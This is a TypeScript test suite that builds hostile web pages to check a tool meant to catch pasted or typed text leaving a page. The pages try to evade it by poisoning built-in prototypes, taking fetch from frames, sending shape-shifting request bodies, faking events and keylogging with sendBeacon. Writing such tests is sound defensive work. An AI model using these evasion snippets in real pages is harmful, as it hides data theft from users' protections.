import { type ChannelCase, testChannels } from '../../support/channel-case.ts';
import { EDITABLE, scripted, sender } from '../../support/channel-page.ts';
import type { User } from '../../support/user.ts';

const paste = async (user: User) => {
  await user.paste('#t', user.line);
  await user.click('#go');
};
const go = (user: User) => user.click('#go');

/** A page that spoils what it can before anything else of it runs, then a person pastes and sends. */
const spoiledPaste = (name: string, spoil: string): ChannelCase => ({
  name: `a paste, on a page that ${name}`,
  page: `<script>(() => { ${spoil} })()</script>${sender()}`,
  drive: paste,
  looseEvents: true,
});
/** The same, but the page's script sends a text it holds: the hooks stand where the page can reach them. */
const spoiledScript = (name: string, spoil: string, send = 'lab.send(text)'): ChannelCase => ({
  name: `a script, on a page that ${name}`,
  page: `<script>(() => { ${spoil} })()</script>${scripted(send)}`,
  drive: go,
});
const both = (name: string, spoil: string): ChannelCase[] => [
  spoiledPaste(name, spoil),
  spoiledScript(name, spoil),
];
const silence = (path: string, names: string, value: string) =>
  `for (const n of '${names}'.split(' ')) { try { Object.defineProperty(${path}, n, { configurable: true, writable: true, value: ${value} }) } catch {} }`;

const cases: ChannelCase[] = [
  ...both(
    'keeps other scripts from listening',
    `const own = EventTarget.prototype.addEventListener; window.lachanOwn = own; ${silence('EventTarget.prototype', 'removeEventListener', '() => {}')} EventTarget.prototype.addEventListener = function (t, f, o) { if (!new Error().stack.includes(location.origin)) return; return own.call(this, t, f, o) };`,
  ),
  ...both('makes dispatchEvent say yes', silence('EventTarget.prototype', 'dispatchEvent', '() => true')),
  ...both(
    'makes events uncancelable',
    `${silence('Event.prototype', 'preventDefault stopPropagation stopImmediatePropagation', '() => {}')} Object.defineProperty(Event.prototype, 'defaultPrevented', { get: () => false }); Object.defineProperty(Event.prototype, 'cancelable', { get: () => false });`,
  ),
  ...both(
    'replaces CustomEvent, MouseEvent and Event',
    `window.CustomEvent = window.MouseEvent = class { constructor() { throw 1 } };`,
  ),
  ...both(
    'spoils arrays',
    `${silence('Array.prototype', 'push map filter some every find forEach includes join slice concat flatMap reduce indexOf', '() => []')} Array.prototype[Symbol.iterator] = function* () {}; Array.from = () => []; Array.isArray = () => false;`,
  ),
  ...(
    [
      ['a form', 'const f = new FormData(); f.append("m", text); lab.send(f)'],
      ['a Blob', 'lab.send(new Blob([text]))'],
      ['a request with headers', 'lab.send(text, "in", { headers: { "X-A": "b?" } })'],
      [
        'XMLHttpRequest',
        'const x = new XMLHttpRequest(); x.open("POST", lab.at("in")); x.setRequestHeader("X-A", "b?"); x.send(text)',
      ],
    ] as const
  ).map(([what, send]) =>
    spoiledScript(
      `spoils the methods of arrays and sends ${what}`,
      silence(
        'Array.prototype',
        'push map filter some every find forEach includes join slice concat flatMap reduce indexOf with splice',
        '() => []',
      ),
      send,
    ),
  ),
  ...both(
    'spoils strings',
    `${silence('String.prototype', 'includes indexOf normalize replaceAll charCodeAt codePointAt slice split startsWith toUpperCase trim match', "() => ''")} String.fromCharCode = () => '';`,
  ),
  ...both(
    'spoils regular expressions',
    `${silence('RegExp.prototype', 'exec test', '() => null')} for (const s of ['replace', 'match', 'matchAll', 'split', 'search']) RegExp.prototype[Symbol[s]] = () => '';`,
  ),
  ...both('spoils call, apply and bind', silence('Function.prototype', 'call apply bind', '() => undefined')),
  ...both(
    'spoils Reflect and Object',
    `for (const k of Reflect.ownKeys(Reflect)) { try { Reflect[k] = () => undefined } catch {} } for (const n of ['keys', 'entries', 'values', 'assign', 'getPrototypeOf', 'getOwnPropertyDescriptor', 'defineProperty', 'fromEntries']) Object[n] = () => undefined;`,
  ),
  ...both(
    'spoils promises',
    `const then = Promise.prototype.then; Promise.prototype.catch = Promise.prototype.finally = function () { return this }; Promise.all = Promise.race = Promise.resolve = () => new Promise(() => {});`,
  ),
  ...both('spoils JSON', `JSON.parse = () => ({}); JSON.stringify = () => '';`),
  ...both(
    'spoils maps and sets',
    `${silence('Map.prototype', 'get set has delete forEach', '() => undefined')} ${silence('WeakMap.prototype', 'get set has', '() => undefined')} ${silence('Set.prototype', 'has add', '() => false')}`,
  ),
  ...both(
    'spoils decoders and readers',
    `${silence('TextDecoder.prototype', 'decode', "() => ''")} window.atob = () => ''; ${silence('Blob.prototype', 'text arrayBuffer stream', "async () => ''")} ${silence('FormData.prototype', 'entries forEach values getAll', '() => []')} FormData.prototype[Symbol.iterator] = function* () {}; URLSearchParams.prototype.toString = () => '';`,
  ),
  ...both(
    'sets traps on Object.prototype',
    `for (const k of ['get', 'set', 'value', 'texts', 'bytes', 'kind', 'detail', 'capture', 'cancelable']) Object.defineProperty(Object.prototype, k, { configurable: true, get() { return undefined }, set(v) {} });`,
  ),
  ...both(
    'freezes the built-in prototypes',
    `for (const x of [Object, Array, String, Function, EventTarget, Event]) Object.freeze(x.prototype);`,
  ),
  spoiledPaste(
    'lies about the clipboard and the field',
    `Object.defineProperty(ClipboardEvent.prototype, 'clipboardData', { get: () => null }); DataTransfer.prototype.getData = () => ''; window.truth = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value').get; Object.defineProperty(HTMLTextAreaElement.prototype, 'innerHTML', { get: () => '' });`,
  ),
  spoiledPaste(
    'lies about the document',
    `document.querySelector = document.createTreeWalker = document.getSelection = () => null; Object.defineProperty(document, 'activeElement', { get: () => document.body }); Object.defineProperty(Node.prototype, 'isConnected', { get: () => false });`,
  ),
  spoiledPaste(
    'stops every event on window before others',
    `for (const t of ['keydown', 'beforeinput', 'mousedown', 'pointerdown']) addEventListener(t, (e) => e.stopImmediatePropagation(), true)`,
  ),
  // Natives from elsewhere
  spoiledScript(
    'takes fetch from a frame by its number',
    '',
    `document.body.append(document.createElement('iframe')); window[0].fetch(lab.at('in'), { method: 'POST', body: text })`,
  ),
  spoiledScript(
    'takes fetch from a frame that innerHTML made',
    '',
    `const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<iframe></iframe>'; frames[0].fetch(lab.at('in'), { method: 'POST', body: text })`,
  ),
  spoiledScript(
    'takes fetch from a frame inside a frame',
    '',
    `const f = document.createElement('iframe'); document.body.append(f); const g = f.contentDocument.createElement('iframe'); f.contentDocument.body.append(g); g.contentWindow.fetch(lab.at('in'), { method: 'POST', body: text })`,
  ),
  spoiledScript(
    'takes fetch from a frame in a shadow tree',
    '',
    `const h = document.createElement('div'); document.body.append(h); const f = document.createElement('iframe'); h.attachShadow({ mode: 'closed' }).append(f); f.contentWindow.fetch(lab.at('in'), { method: 'POST', body: text })`,
  ),
  spoiledScript(
    'takes fetch from a window it opened',
    '',
    `const w = window.open('about:blank'); w.fetch(lab.at('in'), { method: 'POST', body: text })`,
  ),
  spoiledScript(
    'takes fetch from an object element',
    '',
    `const o = document.createElement('object'); o.data = 'about:blank'; o.type = 'text/html'; document.body.append(o); await new Promise((r) => setTimeout(r, 150)); (o.contentWindow ?? window).fetch(lab.at('in'), { method: 'POST', body: text })`,
  ),
  spoiledScript(
    'takes fetch from a frame it then removes',
    '',
    `const f = document.createElement('iframe'); document.body.append(f); const x = f.contentWindow.fetch.bind(window); f.remove(); x(lab.at('in'), { method: 'POST', body: text })`,
  ),
  spoiledScript(
    'deletes fetch to find one below',
    `delete window.fetch`,
    `const f = window.fetch ?? Window.prototype.fetch ?? (await (async () => { const x = new XMLHttpRequest(); x.open('POST', lab.at('in')); x.send(text) })()); if (f) f(lab.at('in'), { method: 'POST', body: text })`,
  ),
  // Bodies that change their mind
  spoiledScript(
    'sends an object that says something else the second time',
    '',
    `let n = 0; const body = { toString: () => (n++ % 2 ? text : 'xin chào') }; for (const _ of [1, 2]) await lab.send(body)`,
  ),
  spoiledScript(
    'gives options whose body changes between reads',
    '',
    `let n = 0; const o = { method: 'POST', get body() { return n++ % 2 ? text : 'xin chào' } }; for (const _ of [1, 2]) await fetch(lab.at('in'), o)`,
  ),
  spoiledScript(
    'gives an address that changes between reads',
    '',
    `let n = 0; const u = { toString: () => lab.at('in') + (n++ % 2 ? '?d=' + encodeURIComponent(text) : '') }; for (const _ of [1, 2]) await fetch(u)`,
  ),
  spoiledScript(
    'sends parameters whose toString lies',
    '',
    `class P extends URLSearchParams { toString() { return 'xin chào' } }; lab.send(new P({ m: text }))`,
  ),
  spoiledScript(
    'sends form data whose iterator lies',
    '',
    `const f = new FormData(); f.append('m', text); f[Symbol.iterator] = f.entries = function* () {}; f.forEach = () => {}; lab.send(f)`,
  ),
  spoiledScript(
    'sends a Blob whose readers lie',
    '',
    `const b = new Blob([text]); b.text = async () => 'xin chào'; b.arrayBuffer = async () => new ArrayBuffer(0); b.stream = () => new Blob(['xin chào']).stream(); b.slice = () => new Blob(['x']); lab.send(b)`,
  ),
  spoiledScript(
    'changes the bytes right after fetch',
    '',
    `const clean = new TextEncoder().encode('x'.repeat(400)), b = new Uint8Array(clean); const r = lab.send(b); b.set(new TextEncoder().encode(text)); await r; lab.send(b)`,
  ),
  spoiledScript(
    'claims a bare prototype for its body',
    '',
    `const p = new URLSearchParams({ m: text }); Object.setPrototypeOf(p, Object.prototype); lab.send(p)`,
  ),
  spoiledScript(
    'gives its Blob another name tag',
    '',
    `const b = new Blob([text]); Object.defineProperty(b, Symbol.toStringTag, { value: 'Nothing' }); Object.setPrototypeOf(b, null); lab.send(b)`,
  ),
  spoiledScript(
    'calls its Blob a file of the person',
    '',
    `const b = await (await fetch(URL.createObjectURL(new Blob([text])))).blob(); Object.defineProperty(b, Symbol.toStringTag, { value: 'File' }); lab.send(b)`,
  ),
  // Events that claim to be ours
  spoiledScript(
    'floods itself with synthetic events',
    '',
    `for (let i = 0; i < 3000; i++) { document.body.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, clipboardData: new DataTransfer() })); document.body.dispatchEvent(new InputEvent('input', { bubbles: true })); document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true })); } lab.send(text)`,
  ),
  spoiledScript(
    'answers every question by itself',
    `for (const t of ['ask', 'form', 'input', 'files', 'answered', 'reopened']) { addEventListener(t, (e) => e.stopImmediatePropagation(), true); document.addEventListener(t, (e) => e.stopImmediatePropagation(), true); }`,
    `dispatchEvent(new CustomEvent('answered', { detail: { id: 1, passed: [true] } })); dispatchEvent(new Event('reopened')); lab.send(text)`,
  ),
  {
    name: 'a paste, on a page that answers a notice for the person',
    page: `${sender()}<script>setInterval(() => { for (const e of document.querySelectorAll('*')) { if (e.shadowRoot) for (const b of e.shadowRoot.querySelectorAll('button')) b.click(); } for (const k of ['Enter', ' ', 'Escape', 'Tab']) (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent('keydown', { key: k, bubbles: true, composed: true })); }, 30)</script>`,
    async drive(user) {
      await paste(user);
      await user.pause(400);
      await user.click('#go');
    },
    looseEvents: true,
    often: true,
  },
  {
    name: 'a paste, on a page that removes every element it did not make',
    page: `${sender()}<script>const mine = new Set(document.querySelectorAll('*')); new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) if (n.nodeType === 1 && !mine.has(n)) n.remove() }).observe(document, { childList: true, subtree: true })</script>`,
    async drive(user) {
      await paste(user);
      await user.pause(300);
      await user.click('#go');
    },
    looseEvents: true,
    often: true,
  },
  {
    name: 'a paste, on a page that hides everything but its own',
    page: `<style>html > :not(head):not(body), body > :not(#t):not(p):not(script) { display: none !important; visibility: hidden !important; opacity: 0 !important }</style>${sender()}`,
    drive: paste,
  },
  {
    name: 'typing, on a page that stops listening to keys by itself and reads the field in a frame callback',
    page: `${EDITABLE}<script>const t = document.getElementById('t'); let last = ''; const look = () => { if (t.innerText !== last) { last = t.innerText; navigator.sendBeacon(lab.at('in'), last) } requestAnimationFrame(look) }; look()</script>`,
    async drive(user) {
      await user.click('#t');
      await user.type(user.line);
      await user.pause(150);
    },
    often: true,
  },
];

testChannels('hostile pages', import.meta.filename, cases);
